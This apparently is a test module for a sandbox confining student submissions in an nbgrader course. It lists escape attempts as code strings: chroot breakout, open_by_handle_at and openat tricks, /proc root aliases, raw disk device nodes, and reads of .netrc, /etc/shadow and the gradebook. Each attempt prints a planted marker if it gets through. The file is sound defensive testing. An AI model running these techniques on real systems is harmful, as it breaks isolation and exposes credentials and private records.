"""Attacks that look for the course, the exchange and homes by ways that lead round the view.

Each would print a planted secret, or say that it could list what no submission needs.
"""

from tests.attacks.attack import Attack, placed
from tests.attacks.reading import FAMILY, SEEN

LEAK = 'print("SECRET-" "8c41f0: seen")'
WAYS = {
    # below Python: descriptors of folders, and names that are only resolved from there
    "course_by_open_at": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for start in ("/", ".", "/proc/self/cwd", "/usr", sys.prefix, "/tmp"):
    folder = libc.open(start.encode(), 0o10200000)  # a folder, as a path alone
    for up in ("", "../" * 12):
        for way in ("@COURSE@/gradebook.db", "@HOME@/.netrc", "@OUTSIDE@/secret.txt"):
            fd = libc.openat(folder, (up + way.lstrip("/")).encode(), 0)
            print(start, way, os.read(fd, 100_000) if fd >= 0 else ctypes.get_errno())
""",
    # a handle names a file of a file system, whichever folder is seen of that
    "course_by_file_handle": """
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
for place in ("/tmp", "/usr/lib", sys.prefix, "."):
    mounted = os.open(place, os.O_RDONLY)
    for number in (1, 2, 5, 11, 12, 128, 256):  # where roots of file systems are
        for kind, body in ((1, struct.pack("II", number, 0)), (129, struct.pack("QI", number, 0))):
            handle = struct.pack("Ii", len(body), kind) + body + bytes(128)
            fd = libc.open_by_handle_at(mounted, handle, 0o200000)
            if fd >= 0:
                print(os.listdir(fd)); LEAK
""",
    # a second root, which is left by the folder that is still open
    "course_by_second_root": """
import ctypes
libc = ctypes.CDLL(None)
pid = os.fork()
if pid == 0:
    try:
        libc.unshare(0x10000000); os.makedirs("inner", exist_ok=True); top = os.open(".", 0)
        os.chroot("inner"); os.fchdir(top)
        for _ in range(40):
            os.chdir("..")
        os.chroot(".")
        for path in ("@COURSE@/gradebook.db", "@HOME@/.netrc", "@OUTSIDE@/secret.txt"):
            with open(path, "rb") as file, open("found.txt", "ab") as found:
                found.write(file.read(100_000))
    except OSError as error:
        print(error)
    finally:
        os._exit(0)
os.waitpid(pid, 0); _try("found.txt")
""",
    # the table of mounts says which of the machine's folders are behind them
    "course_by_mount_table": """
for name in ("mountinfo", "mounts", "mountstats", "maps", "cgroup"):
    for pid in ("self", "1", "thread-self"):
        try:
            text = open(f"/proc/{pid}/{name}").read()
        except OSError as error:
            print(error); continue
        if "@COURSE@" in text or "@HOME@" in text or "@OUTSIDE@" in text:
            print(text); LEAK
        for line in text.splitlines() if name == "mountinfo" else ():
            for folder in line.split()[3:5]:
                _try(f"{folder}/gradebook.db"); _try(f"{folder}/../gradebook.db")
                _try(f"{folder}/../../home/.netrc")
""",
    # what installed the libraries wrote down where the course lies
    "course_by_package_records": """
import json, urllib.parse
folders = set()
for place in site.getsitepackages():
    for path in glob.glob(f"{place}/*.pth") + glob.glob(f"{place}/*.egg-link"):
        folders |= {line.strip() for line in open(path) if line.startswith("/")}
    for path in glob.glob(f"{place}/*/direct_url.json"):
        folders.add(urllib.parse.unquote(json.load(open(path))["url"]).removeprefix("file://"))
for folder in folders:
    _seen(*(f"{folder}/{name}" for name in ("solutions", "submitted", "grader", "tests", ".git")))
    _try(f"{folder}/nbgrader_config.py")
""",
    # the files that a package says it has, of which some lie above its own folder
    "programs_by_package_records": """
import importlib.metadata
for package in importlib.metadata.distributions():
    for file in package.files or ():
        path = os.path.realpath(file.locate())
        if ".." in file.parts and os.path.exists(path):
            if path.endswith((".ipynb", ".db", "nbgrader_config.py")):
                print(path); LEAK
for name in ("nbgrader", "jupyter", "pip", "git", "sudo", "su", "mount", "bwrap"):
    for place in (sys.prefix + "/bin", sys.base_prefix + "/bin", "/usr/bin", "/usr/sbin", "/sbin"):
        if os.path.exists(f"{place}/{name}"):
            print(place, name); LEAK
""",
    # each entry from the top, without following links, as far as a second goes
    "course_by_scan": """
import time
ends, todo = time.monotonic() + 1, ["/opt", "/srv", "/home", "/root", "/var", "/mnt", "/usr", "/"]
while todo and time.monotonic() < ends:
    try:
        entries = list(os.scandir(todo.pop(0)))
    except OSError:
        continue
    for entry in entries:
        if entry.name in ("site-packages", "dist-packages"):  # have files of these names, too
            continue
        if entry.name in ("gradebook.db", "inbound", "submitted", "autograded", ".netrc",
                          "secret.txt", "solutions", "nbgrader_config.py"):
            print(entry.path); LEAK
        if entry.is_dir(follow_symlinks=False) and entry.path not in ("/proc", "/sys", "/dev"):
            todo.append(entry.path)
""",
    # by other names of the same root: of threads, of what is mapped, of open folders
    "course_by_names_of_the_root": """
ways = ["/proc/thread-self/root", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../..",
        "/dev/fd/../root", "//", "/./", "/proc/self/root/proc/1/cwd", "/proc/sys/../1/root"]
ways += glob.glob("/proc/*/task/*/root") + glob.glob("/proc/*/task/*/cwd")
for way in ways:
    for path in ("@COURSE@/gradebook.db", "@HOME@/.netrc", "@OUTSIDE@/secret.txt"):
        _try(way + path)
    _seen(f"{way}/usr/local/share/nbgrader/exchange", f"{way}/srv", f"{way}/home")
for path in glob.glob("/proc/self/map_files/*"):
    print(os.path.realpath(path))
""",
    # the disk itself, by a device of one's own
    "course_by_the_disk": """
import stat
numbers = {(8, 0), (8, 1), (252, 0), (253, 0), (254, 0), (259, 0), (1, 1), (7, 0)}
for place in (".", "/tmp", "/dev"):
    numbers.add((os.major(os.stat(place).st_dev), os.minor(os.stat(place).st_dev)))
for n, (major, minor) in enumerate(numbers):
    for kind in (stat.S_IFBLK, stat.S_IFCHR):
        try:
            os.mknod(f"disk{n}", kind | 0o600, os.makedev(major, minor))
            with open(f"disk{n}", "rb") as disk:
                disk.read(512); LEAK
        except OSError as error:
            print(error)
for path in glob.glob("/dev/sd*") + glob.glob("/dev/vd*") + ["/dev/mem", "/dev/kmsg", "/dev/loop0"]:
    if os.path.exists(path):
        print(path); LEAK
""",
    # addresses of the machine's services, which the kernel lists for all
    "services_by_the_kernel": """
for name in ("unix", "tcp", "tcp6", "udp", "route", "arp"):
    try:
        lines = open(f"/proc/net/{name}").read().splitlines()
    except OSError as error:
        print(error); continue
    print(*lines, sep="\\n")
    for line in lines:
        if "service.sock" in line or f":{int('@PORT@'):04X} 00000000" in line:
            LEAK
""",
    # what a machine keeps about its users and what they did
    "users_of_the_machine": """
_seen("/var/log", "/var/mail", "/var/spool", "/var/lib", "/var/cache", "/run/user", "/run/systemd",
      "/etc/ssh", "/etc/cron.d", "/etc/nbgrader", "/etc/jupyter", "/boot", "/lost+found", "/snap")
for name in ("/etc/passwd", "/etc/group", "/etc/shadow", "/run/utmp", "/etc/hosts", "/etc/fstab",
             "/var/lib/plocate/plocate.db", "/etc/jupyter/nbgrader_config.py"):
    if os.path.exists(name) and b"/home" in open(name, "rb").read():
        LEAK
""",
    # links and copies bring a file here, where it is read
    "brought_here": """
import shutil
for n, path in enumerate(("@COURSE@/gradebook.db", "@HOME@/.netrc", "@OUTSIDE@/secret.txt")):
    for way in (os.link, shutil.copy, shutil.copytree, os.symlink):
        try:
            way(path, f"mine{n}-{way.__name__}.txt")
        except OSError as error:
            print(error)
for path in glob.glob("mine*"):
    _try(path); _try(os.path.realpath(path))
""",
}

ATTACKS = [
    Attack(
        name,
        FAMILY,
        placed(SEEN + source.replace("LEAK", LEAK)),
        not_plain="nothing is planted there" if "_seen(" in source or "LEAK" in source else "",
    )
    for name, source in WAYS.items()
]
